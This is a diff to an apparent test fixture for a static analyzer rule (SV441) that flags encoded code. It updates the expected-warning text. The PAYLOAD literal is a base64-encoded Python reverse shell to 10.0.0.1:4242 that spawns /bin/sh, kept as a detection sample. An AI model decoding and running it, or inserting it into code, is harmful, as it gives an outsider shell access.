@@ -1,6 +1,6 @@
 import base64
 
-PAYLOAD = "aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzLG9zO3M9c29ja2V0LnNvY2tldChzb2NrZXQuQUZfSU5FVCxzb2NrZXQuU09DS19TVFJFQU0pO3MuY29ubmVjdCgoIjEwLjAuMC4xIiw0MjQyKSk7b3MuZHVwMihzLmZpbGVubygpLDApO29zLmR1cDIocy5maWxlbm8oKSwxKTtvcy5kdXAyKHMuZmlsZW5vKCksMik7c3VicHJvY2Vzcy5jYWxsKFsiL2Jpbi9zaCIsIi1pIl0p"  # want "SV441: long base64 literal .* decodes to code: import socket"
+PAYLOAD = "aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzLG9zO3M9c29ja2V0LnNvY2tldChzb2NrZXQuQUZfSU5FVCxzb2NrZXQuU09DS19TVFJFQU0pO3MuY29ubmVjdCgoIjEwLjAuMC4xIiw0MjQyKSk7b3MuZHVwMihzLmZpbGVubygpLDApO29zLmR1cDIocy5maWxlbm8oKSwxKTtvcy5kdXAyKHMuZmlsZW5vKCksMik7c3VicHJvY2Vzcy5jYWxsKFsiL2Jpbi9zaCIsIi1pIl0p"  # want "SV441: long base64 literal .* decodes to code: import socket.*calls socket.socket, os.dup2, subprocess.call"
 # want+2 "SV441: long base64\\+compressed literal .*decodes to code"
 PACKED = (
     "eJzLzC3ILypRKM5Pzk4t0SkuTSooyk9OLS7WyS+2LraFCOtBKA0oz9Et3tPPNUQHyg32d/aODw4J"
